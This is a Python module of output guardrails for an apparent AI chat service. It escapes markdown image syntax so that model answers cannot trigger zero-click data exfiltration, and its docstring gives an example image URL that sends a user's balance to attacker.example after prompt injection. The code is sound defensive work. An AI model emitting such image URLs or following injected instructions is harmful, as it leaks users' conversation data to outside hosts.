"""Output guardrails for text that leaves the service: the model's answer can repeat retrieved catalogue text
or follow an injected instruction, so it is treated as untrusted wherever it is shown.

The classic zero-click exfiltration in chat products is a markdown image whose URL carries conversation data
(`![x](https://attacker.example/?q=<balance>)`): a client that renders markdown fetches it without anyone
clicking. Escaping the `!` of `![` (inline and reference images alike: `!\\[`) makes every image render as
its literal text, while links, emphasis and lists stay as they were. The web UI escapes HTML separately
(`assistant.web.cards.safe_model_text`); the API returns JSON, so HTML in it is inert data.
"""

from __future__ import annotations

IMAGE_OPENER = "!["
DEFUSED_OPENER = "!\\["


def defuse_images(text: str) -> str:
    """`text` with every markdown image opener escaped, so no image (hence no URL) is ever loaded."""
    return text.replace(IMAGE_OPENER, DEFUSED_OPENER)


class StreamingImageDefuser:
    """`defuse_images` for text that arrives in pieces: a trailing `!` is held back until the next piece
    shows whether it opens an image, so a `![` split across two chunks is caught too."""

    def __init__(self) -> None:
        self._held = ""

    def feed(self, piece: str) -> str:
        text = defuse_images(self._held + piece)
        self._held = ""
        if text.endswith("!") and not text.endswith("\\!"):
            text, self._held = text[:-1], "!"
        return text

    def flush(self) -> str:
        held, self._held = self._held, ""
        return held
